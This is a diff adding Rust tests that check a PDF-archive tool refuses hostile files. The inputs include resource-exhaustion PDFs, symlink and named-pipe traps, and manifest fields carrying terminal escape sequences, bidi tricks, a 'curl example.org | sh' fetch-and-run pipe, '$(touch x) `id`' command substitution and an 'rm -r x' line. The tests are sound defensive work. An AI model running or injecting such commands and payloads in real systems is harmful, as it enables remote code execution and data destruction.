@@ -1,5 +1,6 @@
 //! PDFs that were made to do harm, or were harmed: each is refused with its own message, soon, and nothing is written.
 
+use gnlc::archive::manifest::Overruled;
 use gnlc::archive::{names, pages, read};
 use proptest::prelude::*;
 
@@ -264,6 +265,104 @@ fn pages_that_go_round_in_a_circle_stop_nobody() {
     // As deep as is let through, a reader goes without harm.
     let nested = [vec![b'['; 19_000], vec![b']'; 19_000]].concat();
     assert!(pages::texts(&with_object(&whole, number, &stream("", &nested))).is_ok());
+}
+
+/// A PDF whose attached files are these pairs of a name and an object.
+fn naming(pairs: &str, objects: &[Vec<u8>]) -> Vec<u8> {
+    file(&format!("/Names<</EmbeddedFiles<</Names[{pairs}]>>>>"), objects, "")
+}
+
+#[test]
+fn a_large_part_that_is_named_over_and_over_is_not_read_for_minutes() {
+    // One object of many parts, meant by every name.
+    let large = format!("<</A[{}]>>", "0 ".repeat(40_000));
+    refused(&naming(&"(a) 4 0 R ".repeat(20_000), &[large.into_bytes()]), "pdf-too-much", 2, &["far too often"]);
+    // An object behind megabytes of nothing.
+    let spaces = [b"<</A ".to_vec(), vec![b' '; 2_000_000], b"1>>".to_vec()].concat();
+    refused(&naming(&"(a) 4 0 R ".repeat(20_000), &[spaces]), "pdf-too-much", 2, &["far too often"]);
+    // One of more parts than anything has.
+    refused(&naming("(a) 4 0 R", &["<<>>".repeat(60_000).into_bytes()]), "no-manifest", 2, &[]);
+    refused(&naming("(a) 4 0 R", &[format!("[{}]", "<</A<<>>>>".repeat(60_000)).into_bytes()]), "damaged-pdf", 2, &["object 4"]);
+    // A store that says it holds millions.
+    let numbers: String = (0..1_000_000).map(|n| format!("{:07} 0 ", n * 7919 % 1_000_003)).collect();
+    let data = deflate(numbers.as_bytes());
+    let head = format!("<</Type/ObjStm/N 1000000/First 10000000/Length {}/Filter/FlateDecode>>\nstream\n", data.len());
+    refused(&with_store(&[head.into_bytes(), data, b"\nendstream".to_vec()].concat()), "damaged-pdf", 2, &["object 4"]);
+}
+
+#[test]
+fn what_is_printed_of_a_list_cannot_give_commands() {
+    let folder = Folder::empty();
+    let mut foreign = list(vec![input("a.yaml", "f", b"x")]);
+    foreign.command = "gnlc build . \u{1b}]0;x\u{7} && curl example.org | sh".into();
+    foreign.about.title = "paid \u{202e}dekcehc\u{2066}\u{1b}[2J".into();
+    folder.write("a.pdf", with_list(&foreign.to_json()));
+    let pdf = folder.file("a.pdf");
+    for args in [
+        &["info", pdf.to_str().expect("a path")][..],
+        &["extract", pdf.to_str().expect("a path"), folder.file("o").to_str().expect("a path")],
+    ] {
+        run(args).exits(0).says_nothing_of(&["curl", "\u{1b}", "\u{7}", "\u{202e}", "\u{2066}"]).says(&["gnlc build "]);
+    }
+    // A reason in the list, which is printed in a command, is an argument and stays one.
+    foreign.options.overruled = Some(Overruled { by: "An".into(), because: "$(touch x) `id` it's \"so\"".into() });
+    folder.write("b.pdf", with_list(&foreign.to_json()));
+    run(&["info", folder.file("b.pdf").to_str().expect("a path")])
+        .exits(0)
+        .says(&[r#"--overruled-by "An" --because '$(touch x) `id` it'\''s "so"'"#]);
+    foreign.options.overruled = Some(Overruled { by: "An\nrm -r x".into(), because: "so".into() });
+    refused(&with_list(&foreign.to_json()), "bad-manifest", 2, &["nobody who overruled"]);
+}
+
+#[test]
+fn a_version_that_looks_like_this_one_is_none() {
+    let mut odd = list(Vec::new());
+    for version in [concat!(env!("CARGO_PKG_VERSION"), "\u{200b}"), " ", "", "0.1.0\n", "0.1.0 (proved)"] {
+        odd.gnlc = version.into();
+        refused(&with_list(&odd.to_json()), "bad-manifest", 2, &["no version of gnlc"]);
+    }
+}
+
+#[cfg(unix)]
+#[test]
+fn nothing_is_written_through_a_link_or_read_from_a_pipe() {
+    use std::os::unix::fs::symlink;
+    let city = Folder::small_city().with("round.csv", "number,remark\n1,Which year?\n").with("remarks/old.yaml", "remarks: []\n");
+    let outside = Folder::empty();
+    let csv = city.file("round.csv");
+    let csv = csv.to_str().expect("a path");
+    symlink(outside.file("x.yaml"), city.file("remarks/round.yaml")).expect("a link");
+    run(&["remarks", "import", csv, city.arg()]).exits(2).reports("cannot-write", "round.yaml");
+    run(&["freeze", "one", city.arg()]).exits(0);
+    std::fs::remove_file(city.file("frozen/list.txt")).expect("a file");
+    symlink(outside.file("list.txt"), city.file("frozen/list.txt")).expect("a link");
+    run(&["freeze", "two", city.arg()]).exits(2).reports("cannot-write", "frozen/two").says(&["not an ordinary file"]);
+    assert!(!city.file("frozen/two").exists());
+    assert_eq!(outside.names(), [""; 0]);
+    // Who waits for a pipe waits for ever.
+    std::fs::remove_file(city.file("remarks/round.yaml")).expect("a link");
+    let pipe =
+        |name: &str| assert!(std::process::Command::new("mkfifo").arg(city.file(name)).status().expect("mkfifo").success());
+    std::fs::remove_file(city.file("frozen/list.txt")).expect("a link");
+    pipe("frozen/list.txt");
+    pipe("pipe.csv");
+    run_soon(&["diff", city.arg(), "--frozen"]).exits(0);
+    run_soon(&["remarks", "import", city.file("pipe.csv").to_str().expect("a path"), city.arg()])
+        .exits(2)
+        .reports("cannot-read", "pipe.csv");
+    run_soon(&["freeze", "two", city.arg()]).exits(2).reports("cannot-write", "frozen/two");
+}
+
+#[test]
+fn remarks_without_number_are_refused_soon() {
+    let lines: String = (0..200_000).map(|n| format!("{n},Why?\n")).collect();
+    let city = Folder::small_city().with("many.csv", format!("number,remark\n{lines}"));
+    let csv = city.file("many.csv");
+    run_soon(&["remarks", "import", csv.to_str().expect("a path"), city.arg()])
+        .exits(1)
+        .reports("bad-remarks", "many.csv")
+        .says(&["more than 5000 remarks"]);
+    assert!(!city.file("remarks").exists());
 }
 
 proptest! {
